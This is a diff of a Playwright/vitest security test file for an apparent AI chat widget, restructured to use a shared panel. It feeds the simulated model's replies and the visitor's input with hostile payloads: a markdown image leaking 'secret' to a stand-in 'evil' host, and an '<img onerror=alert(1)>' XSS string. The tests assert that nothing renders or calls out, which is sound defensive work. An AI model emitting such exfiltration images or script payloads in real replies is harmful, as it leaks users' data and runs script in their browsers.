@@ -1,39 +1,42 @@
 import type { Browser } from 'playwright-core';
-import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
+import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
 import { launchBrowser, openPanel, type Panel } from './open-panel.ts';
 
 let browser: Browser;
 let panel: Panel;
 /** Every request of the page since the panel was there, but for the API's. */
-let stray: string[];
+const stray: string[] = [];
 
+// One panel for all: what one payload did would show in every test after it as well.
 beforeAll(async () => {
   browser = await launchBrowser();
-});
-afterAll(() => browser.close());
-beforeEach(async () => {
   panel = await openPanel(browser);
   await panel.frame.locator('.greeting').waitFor();
-  stray = [];
   panel.page.on('request', (request) => {
     if (!request.url().startsWith(`${panel.api.widgetOrigin}/api/`)) stray.push(request.url());
   });
 });
-afterEach(async () => {
-  expect(panel.problems).toEqual([]);
+afterAll(async () => {
   await panel.close();
+  await browser.close();
+});
+afterEach(() => {
+  expect(panel.problems).toEqual([]);
+  expect(panel.api.evilRequests).toEqual([]);
+  expect(stray).toEqual([]);
 });
 
 /** Lets the model say `text` in pieces and answers what the frame drew of it. */
 async function say(text: string, pieces = 1) {
+  const count = await panel.frame.locator('.exchange').count();
   const reply = await panel.ask('Go on.');
   const size = Math.ceil(text.length / pieces);
   for (let at = 0; at < text.length; at += size) reply.write(text.slice(at, at + size));
   reply.cite({ number: 1, title: text.slice(0, 200), excerpt: text.slice(0, 1_000) });
   reply.end();
-  const said = panel.frame.locator('.exchange:last-child .said');
-  await said.locator('.copy').waitFor();
-  return said;
+  const exchange = panel.frame.locator('.exchange').nth(count);
+  await exchange.locator('.copy').waitFor();
+  return exchange.locator('.said');
 }
 
 const IMAGE = (evil: string) => `![secret](${evil}/pixel.png?q=secret)`;
@@ -65,8 +68,6 @@ test.each<[string, (evil: string) => string]>([
   expect(
     await said.locator('img, image, svg:not(.icon), style, link, iframe, form, video, base, script, meta').count(),
   ).toBe(0);
-  expect(panel.api.evilRequests).toEqual([]);
-  expect(stray).toEqual([]);
 });
 
 test('52. shows an image as its words', async () => {
@@ -118,6 +119,7 @@ test('54. a page that a link opens can neither see nor reach the frame', async (
   const opened = await opening;
   await opened.waitForLoadState();
   expect(await opened.evaluate(() => [window.opener, document.referrer])).toEqual([null, '']);
+  await opened.close();
 });
 
 test('55. takes out what turns, hides or piles up characters', async () => {
@@ -145,8 +147,8 @@ test.each([
 test('55. a visitor’s own words stay text, too', async () => {
   const reply = await panel.ask('<img src=x onerror=alert(1)> **not bold** \u202Eabc');
   reply.end();
-  await panel.frame.locator('.bubble').waitFor();
-  const bubble = panel.frame.locator('.bubble');
+  const bubble = panel.frame.locator('.exchange:last-child .bubble', { hasText: 'not bold' });
+  await bubble.waitFor();
   expect(await bubble.textContent()).toBe('You: <img src=x onerror=alert(1)> **not bold** abc');
   expect(await bubble.locator('img, strong').count()).toBe(0);
 });
